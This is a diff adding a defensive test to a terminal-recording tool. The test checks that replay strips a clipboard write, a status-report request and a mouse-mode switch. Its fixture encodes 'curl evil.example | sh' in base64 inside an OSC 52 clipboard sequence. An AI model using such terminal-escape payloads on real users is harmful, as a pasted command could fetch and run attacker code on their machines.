@@ -51,3 +51,23 @@ def test_replay_session_id_fetches_from_gangwayd_and_denies_others(gangwayd, age
     assert any(r.get("errorCode") == "AccessDeniedException" and e["Username"] == "mallory"
                for r, e in zip(records, events))
     assert any(r.get("errorCode") is None and e["Username"] == "alice" for r, e in zip(records, events))
+
+
+def test_replay_leaves_out_what_would_act_on_the_viewers_terminal(tmp_path):
+    """A recorded program's clipboard write, status report request and mouse mode do not reach the viewer's terminal;
+    the replay says how many it left out; --raw writes every byte."""
+    cast = tmp_path / "hostile.cast"
+    hostile = ("before\r\n\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\x1b[6n\x1b[?1000h"
+               "\x1b[1;32mgreen\x1b[0m after\r\n")
+    cast.write_text(json.dumps({"version": 2, "width": 80, "height": 24}) + "\n"
+                    + json.dumps([0.1, "o", hostile[:30]]) + "\n" + json.dumps([0.2, "o", hostile[30:]]) + "\n")
+    run = lambda *extra: subprocess.run([binary("gangway"), "replay", str(cast), "--no-wait", *extra],
+                                        capture_output=True, timeout=30)
+    safe = run()
+    assert safe.returncode == 0, safe.stderr
+    assert safe.stdout == b"before\r\n\x1b[1;32mgreen\x1b[0m after\r\n"
+    assert b"left out 3 control sequences" in safe.stderr, safe.stderr
+    raw = run("--raw")
+    assert raw.returncode == 0, raw.stderr
+    assert raw.stdout == hostile.encode()
+    assert raw.stderr == b""
